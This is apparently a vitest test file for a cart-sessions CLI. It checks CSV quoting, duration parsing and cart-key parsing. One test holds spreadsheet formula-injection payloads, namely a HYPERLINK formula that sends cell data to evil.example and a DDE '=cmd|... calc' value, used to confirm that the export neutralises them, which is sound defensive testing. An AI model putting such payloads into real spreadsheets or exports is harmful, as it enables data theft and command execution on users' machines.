import type { SessionSummary } from '@cocart-sessions/core';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import listFixture from '../../../../fixtures/sessions-list.json' with { type: 'json' };
import { parseKeyList } from '../cli/delete-command.js';
import { type SummaryOrStatus, sessionRecords, sessionsCsv } from './export.js';
import { parseFields } from './fields.js';
import { parseDuration } from './time.js';

const seed = listFixture as SessionSummary[];
const NOW = Date.UTC(2021, 4, 1, 12, 0, 0);

describe('CSV export', () => {
  it('quotes per RFC 4180 and reads back equal to the records', () => {
    const odd = seed.map((s, i) => ({
      ...s,
      customers_name: ['Dumont, "Seb"', 'Zoë\nLine'][i] ?? s.customers_name,
    }));
    const fields: SummaryOrStatus[] = ['cart_key', 'customers_name', 'status'];
    const csv = sessionsCsv(odd, fields, NOW);
    expect(csv).toBe(
      `cart_key,customers_name,status\r\n${odd[0]?.cart_key},"Dumont, ""Seb""",expired\r\n${odd[1]?.cart_key},"Zoë\nLine",active\r\n`,
    );
    expect(parse(csv, { columns: true })).toEqual(sessionRecords(odd, fields, NOW));
    expect(sessionsCsv(odd, fields, NOW, { bom: true }).startsWith('\uFEFFcart_key,')).toBe(true);
  });
  it('neutralises cells a spreadsheet would run as a formula, with or without a BOM', () => {
    const names = [
      '=HYPERLINK("https://evil.example/?"&A2,"x")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\tTab',
      '\rCR',
      '\uFF1D1+1',
      '\uFF0B1',
      '\uFF0D1',
      '\uFF20SUM(1)',
      "O'Brien = 1",
    ];
    const sessions = names.map((name, i) => ({
      ...(seed[0] as SessionSummary),
      cart_key: `k${i}`,
      customers_name: name,
      customers_email: i === 0 ? '=cmd|" /C calc"!A0@x.example' : 'a@b.example',
    }));
    const fields: SummaryOrStatus[] = ['cart_key', 'customers_name', 'customers_email'];
    for (const bom of [false, true]) {
      const csv = sessionsCsv(sessions, fields, NOW, { bom });
      const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
      expect(lines.slice(1, 3)).toEqual([
        `k0,"'=HYPERLINK(""https://evil.example/?""&A2,""x"")","'=cmd|"" /C calc""!A0@x.example"`,
        `k1,'+1+1,a@b.example`,
      ]);
      const cells = (parse(csv, { bom: true, columns: true }) as Array<Record<string, string>>).map(
        (r) => r.customers_name,
      );
      expect(cells).toEqual([...names.slice(0, -1).map((n) => `'${n}`), "O'Brien = 1"]);
    }
    // JSON and ndjson take the records as they are.
    expect(sessionRecords(sessions, fields, NOW).map((r) => r.customers_name)).toEqual(names);
  });
  it('refuses an unknown field', () => {
    expect(parseFields('cart_key,total,item_count')).toEqual(['cart_key', 'total', 'item_count']);
    expect(() => parseFields('cart_key,nope')).toThrow('unknown field "nope"');
    expect(() => parseFields('cart_key,,link')).toThrow('--fields');
  });
});

describe('command-line values', () => {
  it('reads durations like 30d and 12h, and nothing else', () => {
    expect(parseDuration('30d')).toBe(30 * 86_400_000);
    expect(parseDuration('12h')).toBe(12 * 3_600_000);
    expect(parseDuration('2w')).toBe(14 * 86_400_000);
    for (const bad of ['30x', '30', 'd', '1.5d', '-2h', '', '30 d'])
      expect(parseDuration(bad)).toBeUndefined();
  });
  it('reads a key list, one a line, and refuses blank or invalid lines', () => {
    expect(parseKeyList('a\r\nb_2\nb_2\n')).toEqual(['a', 'b_2']);
    expect(() => parseKeyList('a\n\nb\n')).toThrow('line 2 of stdin is blank');
    expect(() => parseKeyList('a\nnot-a-key\n')).toThrow('line 2 of stdin, "not-a-key", is not a cart key');
    expect(() => parseKeyList('')).toThrow('no cart keys');
  });
});
